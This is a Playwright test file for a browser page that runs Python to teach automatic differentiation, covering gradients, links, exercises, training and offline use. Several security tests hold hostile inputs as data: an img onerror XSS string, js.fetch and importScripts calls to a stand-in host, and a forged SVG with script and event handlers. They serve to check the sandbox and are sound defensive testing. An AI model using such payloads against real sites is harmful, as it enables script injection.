@@ -1,0 +1,340 @@
+"""The page to try autodiff, in Chromium: served on loopback, and as one file. It may ask for nothing else."""
+
+import base64
+import json
+import shutil
+import sys
+from pathlib import Path
+
+import pytest
+from helpers.browser import served
+
+from autodiff import Value, training_steps
+
+expect = pytest.importorskip("playwright.sync_api", reason="needs playwright: pip install -e '.[browser]'").expect
+DOCS = Path(__file__).parents[2] / "docs"
+START = 60_000  # milliseconds in which the interpreter starts, on a machine that has other things to do
+expect.set_options(timeout=START)
+pytestmark = pytest.mark.xdist_group("interpreter")  # which takes seconds to start
+LINE = "w = 3\nx = 2\nb = 1\nt = 5\ny = w * x + b\nL = (y - t) ** 2"
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory):
+    pytest.importorskip("markdown", reason="needs the extra docs")
+    if not (shutil.which("npm") and shutil.which("node")):
+        pytest.skip("needs npm and node, which bring the browser's Python")
+    sys.path.insert(0, str(DOCS))
+    from try_page import make
+
+    made = tmp_path_factory.mktemp("site")
+    make(made)
+    return made
+
+
+@pytest.fixture(scope="module")
+def address(folder):
+    with served(folder) as address:
+        yield address
+
+
+def watched(context, own):
+    """What must not be: an error, a dialog, a request for anything that is not the page's own."""
+    troubles = []
+
+    def page_opened(page):
+        page.on("pageerror", lambda error: troubles.append(str(error)))
+        page.on("dialog", lambda dialog: troubles.append(dialog.message))
+
+    context.on("page", page_opened)
+    context.on("request", lambda asked: asked.url.startswith((own, "blob:", "data:")) or troubles.append(asked.url))
+    return troubles
+
+
+@pytest.fixture(scope="module")
+def started(chromium, address):
+    context = chromium.new_context(viewport={"width": 1200, "height": 900})
+    troubles = watched(context, address)
+    page = context.new_page()
+    page.goto(address)
+    seen_at_once = page.locator("#panel g.node").count()
+    page.locator("#start.ready").wait_for(timeout=START)
+    yield page, troubles, seen_at_once
+    context.close()
+
+
+@pytest.fixture
+def page(started):
+    """The page that all tests share, as it is when its interpreter has started."""
+    page, troubles, _ = started
+    page.locator("#start.ready").wait_for(timeout=START)
+    yield page
+    assert troubles == []
+
+
+def fragment(**state):
+    return "#s=" + base64.urlsafe_b64encode(json.dumps(state).encode()).decode().rstrip("=")
+
+
+def follow(page, link):
+    page.evaluate("link => { location.hash = link }", link)
+
+
+def settled(page):
+    """Wait until the panel shows what the program answers."""
+    page.locator("#panel:not(.old) > *").wait_for(timeout=START)
+
+
+def show(page, text, view="drawing", run=False, **options):
+    follow(page, fragment(text="1", view="drawing"))  # so that the link is another one
+    follow(page, fragment(text=text, view=view, **options))
+    if run:
+        page.locator("#run").click()
+    settled(page)
+
+
+def gradients(page):
+    return sorted(page.locator("#panel text.gradient").all_text_contents())
+
+
+def has_gradients(page, wanted):
+    """Wait until the boxes of the drawing show these gradients."""
+    for _ in range(50):
+        if gradients(page) == wanted:
+            break
+        page.wait_for_timeout(100)
+    assert gradients(page) == wanted
+
+
+def expected(**numbers):
+    w, x, b, t = [Value(numbers.get(name, number), name) for name, number in {"w": 3, "x": 2, "b": 1, "t": 5}.items()]
+    y = w * x + b
+    loss = (y - t) ** 2
+    loss.backward()
+    inner = y.grad  # of the sum, the product in it, and the difference
+    return sorted([f"grad {n:g}" for n in (w.grad, x.grad, b.grad, t.grad, y.grad, inner, inner, loss.grad)])
+
+
+def test_something_is_seen_before_the_interpreter_is_there(started):
+    assert started[2] > 0
+
+
+def test_a_drawing_has_the_gradients_of_the_engine_also_after_a_drag(page):
+    show(page, LINE)
+    has_gradients(page, expected())
+    page.locator("#n-w").focus()
+    page.keyboard.press("ArrowRight")
+    moved = float(page.locator("#n-w").input_value())
+    assert moved > 3
+    expect(page.locator("#text")).to_have_value(LINE.replace("w = 3", f"w = {moved:g}"))
+    expect(page.locator("#value")).to_have_text(f"= {(moved * 2 + 1 - 5) ** 2:.6g}")
+    settled(page)
+    has_gradients(page, expected(w=moved))
+
+
+def test_names_without_a_number_get_one(page):
+    show(page, "tanh(w*x + b)")
+    expect(page.locator("#text")).to_have_value("w = 1\nx = 1\nb = 1\ntanh(w*x + b)")
+    expect(page.locator(".slider label")).to_have_text(["w", "x", "b"])
+
+
+def test_the_stepper_stays_where_it_is_while_one_drags(page):
+    show(page, LINE, "steps")
+    page.locator("#panel .buttons button", has_text="Last").click()
+    expect(page.locator("#panel .count")).to_have_text("8 / 8 backward")
+    page.locator("#n-x").focus()
+    page.keyboard.press("ArrowLeft")
+    settled(page)
+    expect(page.locator("#panel .count")).to_have_text("8 / 8 backward")
+    moved = float(page.locator("#n-x").input_value())
+    expect(
+        page.locator("#panel text.gradient", has_text=f"grad {2 * (3 * moved + 1 - 5) * moved:g}").first
+    ).to_be_visible()
+
+
+def test_a_derivation_is_of_the_number_that_is_chosen(page):
+    show(page, LINE, "derivation")
+    page.locator("#wrt").select_option("x")
+    settled(page)
+    rows = page.locator("#panel dd")
+    expect(rows.first).to_have_text("(dL/dy)(dy/dx)")
+    expect(rows.last).to_have_text("12")
+
+
+def test_an_exercise_names_the_mistake_and_knows_what_is_right(page):
+    show(page, "w = 3\nx = 4\nL = w * x", "exercise")
+    page.locator("#panel .overview button", has_text="dL/dw").click()
+    page.locator("#panel #answer").fill("3")
+    page.keyboard.press("Enter")
+    expect(page.locator("#panel .verdict")).to_contain_text("factors of a product swapped")
+    page.locator("#panel #answer").fill("4")
+    page.keyboard.press("Enter")
+    expect(page.locator("#panel .verdict.right")).to_be_visible()
+
+
+def test_a_training_walks_as_the_package_does(page):
+    text = "w1 = 1.5\nw2 = 1\nx = 4\nt = 1\nh = w1 * x\ny = w2 * h\nL = (y - t) ** 2"
+    show(page, text, "training", on=["w1", "w2"], rate=0.001, steps=30)
+    w1, w2 = Value(1.5, "w1"), Value(1.0, "w2")
+    told = training_steps(lambda: (w2 * (w1 * 4.0) - 1.0) ** 2, [w1, w2], lr=0.001, steps=30)
+    shown = page.locator("#panel .readout dd")
+    expect(page.locator("#panel circle.walk")).to_have_count(31)
+    expect(shown.first).to_have_text("30")
+    page.locator("#panel .going button").click()
+    expect(shown.first).not_to_have_text("30")
+    expect(shown.first).to_have_text("30")  # it has arrived
+    expect(shown.nth(1)).to_have_text(f"{told.rounds[-1].numbers[0]:.6g}")
+    page.locator("#panel details.detail summary").click()
+    expect(page.locator("#panel .rounds tbody tr")).to_have_count(len(told.stories))
+
+
+def test_errors_are_told_in_pythons_words_with_the_line(page):
+    for text, line, words in [
+        ("w = 2\nL = w * z.data", "Line 2", "NameError: name 'z' is not defined"),
+        ("w = 2\nL = (w", "Line 2", "SyntaxError: '(' was never closed"),
+        ("x = 0\nL = 1 / x", "Line 2", "ZeroDivisionError"),
+        ("print('only this')", "", "No Value came out"),
+    ]:
+        follow(page, fragment(text=text, view="drawing"))
+        expect(page.locator("#text")).to_have_value(text)
+        page.locator("#run").click()
+        expect(page.locator("#told.error")).to_contain_text(words)
+        expect(page.locator("#told.error")).to_contain_text(line)
+
+
+def test_a_link_holds_the_whole_state(page):
+    show(page, LINE, "derivation", wrt="b")
+    page.wait_for_function("link => location.hash !== link", arg=fragment(text=LINE, view="derivation", wrt="b"))
+    link = page.evaluate("() => location.hash")
+    show(page, "x = 1\nL = x * x")
+    follow(page, link)
+    expect(page.locator("#text")).to_have_value(LINE)
+    settled(page)
+    expect(page.locator("#wrt")).to_have_value("b")
+
+
+def test_a_program_from_a_link_runs_when_the_learner_says_so(page):
+    text = "print('it ran')\nx = 2\nfor _ in [1]:\n    L = x * x"
+    follow(page, fragment(text=text, view="drawing"))
+    expect(page.locator("#told")).to_contain_text("press Run")
+    assert page.locator("#printed").is_hidden()
+    page.locator("#run").click()
+    expect(page.locator("#printed pre")).to_have_text("it ran\n")
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "#s=" + "A" * 30_000,
+        "#s=%%%",
+        fragment(text=["L = 1"]),
+        fragment(text="x = 1\n" * 5_000),
+        "#s=" + base64.urlsafe_b64encode(b"\xff\xfe").decode(),
+    ],
+    ids=["long", "no base64", "no text", "a long program", "no UTF-8"],
+)
+def test_a_link_that_is_none_is_told(page, link):
+    show(page, LINE)
+    follow(page, link)
+    expect(page.locator("#told")).to_contain_text("could not be read")
+    expect(page.locator("#text")).to_have_value(LINE)
+
+
+def test_what_is_typed_reaches_nothing_but_the_interpreter(page):
+    show(page, 'x = Value(2.0, "<img src=x onerror=alert(1)>")\nL = x * x', run=True)
+    hostile = page.locator("#panel text.name", has_text="<img src=x onerror=alert(1)>")
+    expect(hostile.first).to_be_visible()
+    asking = "import js\nx = 2\njs.fetch('https://example.invalid/?' + 'told')\njs.importScripts('https://example.invalid/x.js')"
+    show(page, asking)
+    page.locator("#run").click()
+    expect(page.locator("#told.error")).to_contain_text("Line 4")  # refused by the policy, and nothing was asked for
+
+
+def test_a_program_that_forges_its_picture_puts_nothing_live_into_the_page(page):
+    forged = (
+        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="alert(1)"><script>alert(2)</script>'
+        '<style>* { display: none }</style><image href="https://example.invalid/a.png"/><foreignObject><p>x</p>'
+        '</foreignObject><a href="javascript:alert(3)"><text class="forged" onclick="alert(4)">x</text></a></svg>'
+    )
+    text = f"import bench\nbench.VIEWS['drawing'] = lambda *_: {{'svg': {forged!r}}}\nx = 1\nL = x * x"
+    show(page, text, run=True)
+    page.locator("#panel text.forged").wait_for()
+    live = "script, style, image, foreignObject, [onload], [onclick], [href]"
+    assert page.locator("#panel svg").locator(live).count() == 0
+    page.locator("#panel text.forged").dispatch_event("click")
+
+
+def test_what_never_ends_is_stopped_and_the_next_program_runs(page):
+    show(page, "x = 1\nwhile True:\n    x = x * 1")
+    page.locator("#run").click()
+    page.locator("#stop").click()
+    expect(page.locator("#told")).to_contain_text("Stopped")
+    page.locator("#start.ready").wait_for(timeout=START)
+    show(page, LINE)
+    has_gradients(page, expected())
+
+
+def test_a_lesson_runs_with_what_comes_before(page):
+    follow(page, "#lesson=03")
+    expect(page.locator("#lesson h1")).to_contain_text("chain rule")
+    cells = page.locator(".cell")
+    cells.nth(2).get_by_role("button", name="Run").click()  # it needs the names of the first
+    expect(cells.nth(2).locator(".out")).to_contain_text("s = x + y  moves with x and y as (1.0, 1.0)")
+    expect(cells.nth(1).locator("g.node").first).to_be_visible()
+    follow(page, "#try")
+
+
+def test_a_phone_shows_it_without_scrolling_sideways_and_a_keyboard_does_all(page):
+    show(page, LINE)
+    page.set_viewport_size({"width": 360, "height": 740})
+    for view in ("drawing", "steps", "derivation", "exercise", "training"):
+        page.locator(f"#tab-{view}").click()
+        settled(page)
+        assert page.evaluate("() => document.documentElement.scrollWidth") == 360
+    page.set_viewport_size({"width": 1200, "height": 900})
+    page.locator("#text").focus()
+    page.keyboard.press("Control+A")
+    page.keyboard.insert_text("a = 4\nL = a * a")
+    page.keyboard.press("Control+Enter")
+    expect(page.locator("#value")).to_have_text("= 16")
+    page.keyboard.press("Tab")
+    page.keyboard.press("Tab")
+    assert page.evaluate("() => document.activeElement.id") == "n-a"
+    page.keyboard.press("ArrowRight")
+    expect(page.locator("#value")).not_to_have_text("= 16")
+    page.locator("#tab-training").focus()
+    page.keyboard.press("ArrowRight")
+    expect(page.locator("#tab-drawing")).to_be_focused()
+    settled(page)
+    expect(page.locator("#panel g.node")).to_have_count(2)
+
+
+def test_it_opens_again_without_a_network(page):
+    page.wait_for_function("() => navigator.serviceWorker.ready.then((found) => found.active.state === 'activated')")
+    page.context.set_offline(True)
+    show(page, LINE)
+    page.reload()
+    expect(page.locator("#text")).to_have_value(LINE)
+    page.locator("#start.ready").wait_for(timeout=START)
+    settled(page)
+    has_gradients(page, expected())
+    page.context.set_offline(False)
+
+
+def test_one_file_holds_it_all(chromium, folder, tmp_path):
+    from offline import offline
+
+    path = tmp_path / "autodiff.html"
+    offline(path, folder)
+    assert path.stat().st_size < 20e6
+    context = chromium.new_context()
+    troubles = watched(context, path.as_uri())
+    page = context.new_page()
+    page.goto(path.as_uri() + fragment(text=LINE, view="exercise"))
+    page.locator("#start.ready").wait_for(timeout=START)
+    page.locator("#panel .overview button").first.wait_for()
+    page.locator("#tab-drawing").click()
+    settled(page)
+    has_gradients(page, expected())
+    context.close()
+    assert troubles == []
